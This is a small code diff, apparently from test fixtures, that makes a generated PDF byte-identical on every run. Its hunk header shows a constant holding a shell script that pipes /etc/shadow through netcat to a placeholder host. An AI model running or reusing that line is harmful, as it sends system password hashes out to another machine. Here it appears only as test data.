@@ -17,7 +17,7 @@ SHELL = b"#!/bin/sh\ncat /etc/shadow | nc example.invalid 9\n"
 
 def pdf() -> bytes:
     buffer = io.BytesIO()
-    canvas = Canvas(buffer)
+    canvas = Canvas(buffer, invariant=True)  # the same bytes every time
     canvas.drawString(72, 720, "Statut")
     canvas.save()
     return buffer.getvalue()
